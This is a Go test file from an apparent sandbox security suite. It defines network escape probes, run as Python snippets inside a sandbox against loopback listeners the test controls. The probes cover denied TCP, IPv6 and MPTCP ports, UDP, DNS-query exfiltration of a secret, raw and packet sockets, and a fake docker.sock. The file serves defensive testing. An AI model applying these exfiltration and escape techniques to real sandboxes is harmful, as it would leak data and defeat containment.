package security

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"strconv"
	"syscall"
	"time"

	"github.com/pysandboxes/pysandboxes"
)

// The network attacks. Every address is a loopback one: the listeners are the
// test's, and nothing is ever sent off the host. A listener the program must not
// reach greets with the run's secret; the allowed one with "hello".
//
// The target of each attack is a listener or sink of the host. Where the
// sandbox has a network namespace of its own (unshare, bwrap, firejail), its
// 127.0.0.1 is its own loopback: the host's listeners are reached only through
// what a rule forwards (internal/netfilter), and the host's view decides. A
// connection the host's listener accepted, or a datagram its sink received, is a
// breach whatever the program printed; a datagram the program sent that the
// host did not receive stayed in the sandbox's own network: blocked
// (sinkDecides). The allowed control attempts reach the host's listeners (the
// TCP greeting comes from the host; the allowed datagram must be received by
// the host), so a sandbox that reaches nothing does not pass for one that
// filters.

const netPrelude = `
def connect(host, port, proto=0, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM, proto)
    try:
        s.settimeout(3)
        s.connect((host, port))
        return s.recv(100).decode(errors="replace")
    finally:
        s.close()
def sendto(host, port, data, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        return s.sendto(data, (host, port))
    finally:
        s.close()
def listen(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.bind((host, port))
        s.listen()
        return "listening"
    finally:
        s.close()
`

func itoa(i int) string { return strconv.Itoa(i) }

var tcpDeniedPort = &Attack{
	Name: "tcp-denied-port", Capability: pysandboxes.CapTCPPorts,
	Summary: "TCP connect to a port no rule allows (the allowed port connects in the same run)",
	setup: func(e *env) *plan {
		allowed := e.listenTCP("tcp4", "127.0.0.1:0", "hello")
		denied, host := e.tcpSink("tcp4", "127.0.0.1:0", e.secret)
		return &plan{
			rules: []string{fmt.Sprintf("net=ALLOW|tcp|*|%d|OUT", allowed)},
			argv: e.py(netPrelude+`
attempt("allowed", lambda: connect("127.0.0.1", int(sys.argv[1])))
attempt("denied", lambda: connect("127.0.0.1", int(sys.argv[2])))
`, itoa(allowed), itoa(denied)),
			check: probes(control("allowed"), deny("denied", netDenied...)),
			host:  host,
		}
	},
}

var tcp6DeniedPort = &Attack{
	Name: "tcp6-denied-port", Capability: pysandboxes.CapTCPPorts,
	Summary: "TCP connect over IPv6 (::1) to a port no rule allows",
	setup: func(e *env) *plan {
		l, err := net.Listen("tcp6", "[::1]:0")
		if err != nil {
			e.skipf("no IPv6 loopback here: %v", err)
			return nil
		}
		l.Close()
		allowed := e.listenTCP("tcp4", "127.0.0.1:0", "hello")
		denied, host := e.tcpSink("tcp6", "[::1]:0", e.secret)
		return &plan{
			rules: []string{fmt.Sprintf("net=ALLOW|tcp|*|%d|OUT", allowed)},
			argv: e.py(netPrelude+`
attempt("allowed", lambda: connect("127.0.0.1", int(sys.argv[1])))
attempt("denied", lambda: connect("::1", int(sys.argv[2]), family=socket.AF_INET6))
`, itoa(allowed), itoa(denied)),
			check: probes(control("allowed"), deny("denied", netDenied...)),
			host:  host,
		}
	},
}

var tcpListen = &Attack{
	Name: "tcp-listen", Capability: pysandboxes.CapTCPPorts,
	Summary: "listen on a TCP port (any port: 0) without an IN rule",
	setup: func(e *env) *plan {
		allowed := e.listenTCP("tcp4", "127.0.0.1:0", "hello")
		return &plan{
			rules: []string{fmt.Sprintf("net=ALLOW|tcp|*|%d|OUT", allowed)},
			argv: e.py(netPrelude+`
attempt("allowed", lambda: connect("127.0.0.1", int(sys.argv[1])))
attempt("listen", lambda: listen("127.0.0.1", 0))
`, itoa(allowed)),
			check: probes(control("allowed"), deny("listen", "EACCES", "EPERM")),
		}
	},
}

var tcpDeniedHost = &Attack{
	Name: "tcp-denied-host", Capability: pysandboxes.CapNetHosts,
	Summary: "TCP connect to 127.0.0.2 when only 127.0.0.1 is allowed, on the same port",
	setup: func(e *env) *plan {
		port := 0
		var host func() (bool, string)
		for range 20 {
			denied, seen := e.listenTCPSoft("127.0.0.2:0", e.secret)
			if denied == 0 {
				break
			}
			if p, _ := e.listenTCPSoft("127.0.0.1:"+itoa(denied), "hello"); p != 0 {
				port, host = denied, seen
				break
			}
		}
		if port == 0 {
			e.fail(errors.New("could not listen on 127.0.0.1 and 127.0.0.2 on the same port"))
			return nil
		}
		return &plan{
			rules: []string{fmt.Sprintf("net=ALLOW|tcp|127.0.0.1|%d|OUT", port)},
			argv: e.py(netPrelude+`
attempt("allowed", lambda: connect("127.0.0.1", int(sys.argv[1])))
attempt("denied", lambda: connect("127.0.0.2", int(sys.argv[1])))
`, itoa(port)),
			check: probes(control("allowed"), deny("denied", netDenied...)),
			host:  host,
		}
	},
}

// listenTCPSoft is tcpSink on IPv4 that returns port 0, without failing the
// run, when the address is in use.
func (e *env) listenTCPSoft(addr, greeting string) (int, func() (bool, string)) {
	l, err := net.Listen("tcp4", addr)
	if err != nil {
		if !errors.Is(err, syscall.EADDRINUSE) {
			e.fail(err)
		}
		return 0, nil
	}
	return l.Addr().(*net.TCPAddr).Port, accepted(e.serve(l, greeting))
}

var mptcpDeniedPort = &Attack{
	Name: "mptcp-denied-port", Capability: pysandboxes.CapTCPPorts,
	Summary: "Multipath TCP (IPPROTO_MPTCP) connect to a port no rule allows",
	setup: func(e *env) *plan {
		allowed := e.listenTCP("tcp4", "127.0.0.1:0", "hello")
		denied, host := e.tcpSink("tcp4", "127.0.0.1:0", e.secret)
		return &plan{
			rules: []string{fmt.Sprintf("net=ALLOW|tcp|*|%d|OUT", allowed)},
			argv: e.py(netPrelude+`
attempt("allowed", lambda: connect("127.0.0.1", int(sys.argv[1])))
attempt("mptcp", lambda: connect("127.0.0.1", int(sys.argv[2]), proto=262))
`, itoa(allowed), itoa(denied)),
			check: probes(control("allowed"), deny("mptcp", netDenied...)),
			host:  host,
		}
	},
}

// udpHost is the host's view of a UDP attack: through when the sink got the
// secret.
func udpHost(s *udpSink, secret string) func() (bool, string) {
	return func() (bool, string) {
		if s.received(secret, 300*time.Millisecond) {
			return true, "the host's listener received the secret"
		}
		return false, "the host's listener received nothing"
	}
}

var udpNoRule = &Attack{
	Name: "udp-no-rule", Capability: pysandboxes.CapUDPDeny,
	Summary: "send a UDP datagram to 127.0.0.1 when only a TCP port is allowed",
	setup: func(e *env) *plan {
		allowed := e.listenTCP("tcp4", "127.0.0.1:0", "hello")
		sink, port := e.listenUDP("127.0.0.1:0")
		return &plan{
			rules: []string{fmt.Sprintf("net=ALLOW|tcp|*|%d|OUT", allowed)},
			argv: e.py(netPrelude+`
attempt("allowed", lambda: connect("127.0.0.1", int(sys.argv[1])))
attempt("udp", lambda: sendto("127.0.0.1", int(sys.argv[2]), sys.argv[3].encode()))
`, itoa(allowed), itoa(port), e.secret),
			check:       probes(control("allowed"), deny("udp", "EPERM", "EACCES", "ENETUNREACH")),
			host:        udpHost(sink, e.secret),
			sinkDecides: true,
		}
	},
}

var udpDeniedPort = &Attack{
	Name: "udp-denied-port", Capability: pysandboxes.CapUDP,
	Summary: "send a UDP datagram to a port other than the one a UDP rule allows",
	setup: func(e *env) *plan {
		ok, allowed := e.listenUDP("127.0.0.1:0")
		sink, denied := e.listenUDP("127.0.0.1:0")
		return &plan{
			rules: []string{fmt.Sprintf("net=ALLOW|udp|*|%d|OUT", allowed)},
			argv: e.py(netPrelude+`
attempt("allowed", lambda: sendto("127.0.0.1", int(sys.argv[1]), b"hello"))
attempt("denied", lambda: sendto("127.0.0.1", int(sys.argv[2]), sys.argv[3].encode()))
`, itoa(allowed), itoa(denied), e.secret),
			check:       probes(control("allowed"), deny("denied", "EPERM", "EACCES", "ENETUNREACH")),
			host:        udpHost(sink, e.secret),
			sinkDecides: true,
			hostControl: func() error {
				if !ok.received("hello", 2*time.Second) {
					return errors.New("the host's allowed sink did not receive the allowed datagram")
				}
				return nil
			},
		}
	},
}

// dnsPrelude builds a DNS query.
const dnsPrelude = `
import random, struct
def query(name):
    q = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    return q + b"\0" + struct.pack(">HH", 1, 1)
`

// resolverSink listens for DNS queries on port 53 of a loopback address:
// 127.0.0.53 when it is free, another 127.0.x.53 otherwise.
func (e *env) resolverSink() (*udpSink, string) {
	var last error
	for i := range 20 {
		addr := "127.0.0.53"
		if i > 0 {
			addr = fmt.Sprintf("127.0.%d.53", 1+rand.IntN(250))
		}
		pc, err := net.ListenPacket("udp4", addr+":53")
		if err != nil {
			last = err
			continue
		}
		return e.sink(pc), addr
	}
	if errors.Is(last, syscall.EACCES) {
		e.skipf("listening on port 53 needs privilege (net.ipv4.ip_unprivileged_port_start): %v", last)
	} else {
		e.fail(fmt.Errorf("no loopback address to listen on port 53: %w", last))
	}
	return &udpSink{}, ""
}

var dnsExfil = &Attack{
	Name: "dns-exfil", Capability: pysandboxes.CapUDPDeny,
	Summary: "exfiltrate the secret in a DNS query to a resolver on 127.0.0.53:53, without any UDP rule",
	setup: func(e *env) *plan {
		sink, addr := e.resolverSink()
		return &plan{
			argv: e.py(netPrelude+dnsPrelude+`
attempt("query", lambda: sendto(sys.argv[1], 53, query(sys.argv[2] + ".exfil.invalid")))
`, addr, e.secret),
			check:       probes(deny("query", "EPERM", "EACCES", "ENETUNREACH")),
			host:        udpHost(sink, e.secret),
			sinkDecides: true,
		}
	},
}

var dnsOtherResolver = &Attack{
	Name: "dns-other-resolver", Capability: pysandboxes.CapUDP | pysandboxes.CapNetHosts,
	Summary: "exfiltrate the secret in a DNS query to a resolver other than the one allowed (127.0.0.1:53)",
	setup: func(e *env) *plan {
		sink, addr := e.resolverSink()
		return &plan{
			rules: []string{"net=ALLOW|udp|127.0.0.1|53|OUT"},
			argv: e.py(netPrelude+dnsPrelude+`
attempt("query", lambda: sendto(sys.argv[1], 53, query(sys.argv[2] + ".exfil.invalid")))
`, addr, e.secret),
			check:       probes(deny("query", "EPERM", "EACCES", "ENETUNREACH")),
			host:        udpHost(sink, e.secret),
			sinkDecides: true,
		}
	},
}

var rawSocket = &Attack{
	Name: "raw-socket", Capability: pysandboxes.CapRawSockets, Privileged: true,
	Summary: "open a raw ICMP socket (SOCK_RAW)",
	setup: func(e *env) *plan {
		return &plan{
			argv: e.py(`
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return "raw"
attempt("raw", raw)
`),
			check: probes(deny("raw", "EPERM", "EACCES")),
		}
	},
}

var packetSocket = &Attack{
	Name: "packet-socket", Capability: pysandboxes.CapRawSockets, Privileged: true,
	Summary: "open a packet socket (AF_PACKET), which sees every frame of the host",
	setup: func(e *env) *plan {
		return &plan{
			argv: e.py(`
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
    return "packet"
attempt("packet", packet)
`),
			// EOPNOTSUPP (ENOTSUP): a protocol filter's refusal (firejail's
			// --protocol); the kernel itself says EPERM without the capability, or
			// EAFNOSUPPORT without AF_PACKET.
			check: probes(deny("packet", "EPERM", "EACCES", "EAFNOSUPPORT", "EOPNOTSUPP", "ENOTSUP")),
		}
	},
}

const unixPrelude = `
def unix(addr):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.settimeout(3)
        s.connect(addr)
        return s.recv(100).decode(errors="replace")
    finally:
        s.close()
`

var unixNamed = &Attack{
	Name: "unix-named", Capability: pysandboxes.CapUnixSockets,
	Summary: "connect to a Unix socket of the host (a fake docker.sock in a /run-like directory, not exposed)",
	setup: func(e *env) *plan {
		sock := e.path("run", "docker.sock")
		e.dir("run")
		e.listenUnix(sock, e.secret)
		return &plan{
			argv:  e.py(unixPrelude+`attempt("docker", lambda: unix(sys.argv[1]))`, sock),
			check: probes(deny("docker", "EPERM", "EACCES", "ENOENT", "ECONNREFUSED")),
		}
	},
}

var unixAbstract = &Attack{
	Name: "unix-abstract", Capability: pysandboxes.CapUnixSockets,
	Summary: "connect to an abstract Unix socket of the host",
	setup: func(e *env) *plan {
		name := "pysb-security-" + e.mark
		e.listenUnix("@"+name, e.secret)
		return &plan{
			argv:  e.py(unixPrelude+`attempt("abstract", lambda: unix("\0" + sys.argv[1]))`, name),
			check: probes(deny("abstract", "EPERM", "EACCES", "ECONNREFUSED")),
		}
	},
}

// netAttacks are the network attacks.
var netAttacks = []*Attack{tcpDeniedPort, tcp6DeniedPort, tcpListen, tcpDeniedHost, mptcpDeniedPort, udpNoRule, udpDeniedPort,
	dnsExfil, dnsOtherResolver, rawSocket, packetSocket, unixNamed, unixAbstract}
